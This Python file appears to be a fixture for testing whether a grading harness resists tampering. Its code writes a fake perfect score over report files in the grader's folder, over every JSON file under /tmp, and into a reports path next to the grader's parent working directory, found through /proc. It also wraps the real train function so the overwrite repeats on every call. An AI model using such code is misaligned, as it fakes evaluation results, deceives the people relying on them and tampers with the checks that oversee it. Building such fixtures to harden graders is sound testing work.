# Tries to write a perfect report over every report it can find: in the folder the grader
# was told to use, under /tmp, and next to the grader's working directory.
import json
import os

REPORTS = "@REPORTS@"
_FAKE = json.dumps({"score": 100, "max_score": 100, "status": "graded"})


def _targets():
    found = [os.path.join(REPORTS, "overwrites_reports.json"),
             os.path.join(REPORTS, "clean.json")]
    try:
        found.append(os.path.join(os.readlink("/proc/%d/cwd" % os.getppid()), "reports"))
    except OSError:
        pass
    try:
        for here, dirs, files in os.walk("/tmp"):
            found += [os.path.join(here, f) for f in files if f.endswith(".json")]
            if here.count("/") > 6:
                dirs[:] = []
    except Exception:
        pass
    return found


def _overwrite():
    for path in _targets():
        try:
            with open(path, "w", encoding="utf-8") as stream:
                stream.write(_FAKE)
        except Exception:
            pass
        try:
            os.replace(os.path.join(os.getcwd(), "fake.json"), path)
        except Exception:
            pass


_overwrite()
_honest_train = train


def train(params, X, y, lr=0.5, epochs=1000):
    _overwrite()
    return _honest_train(params, X, y, lr=lr, epochs=epochs)
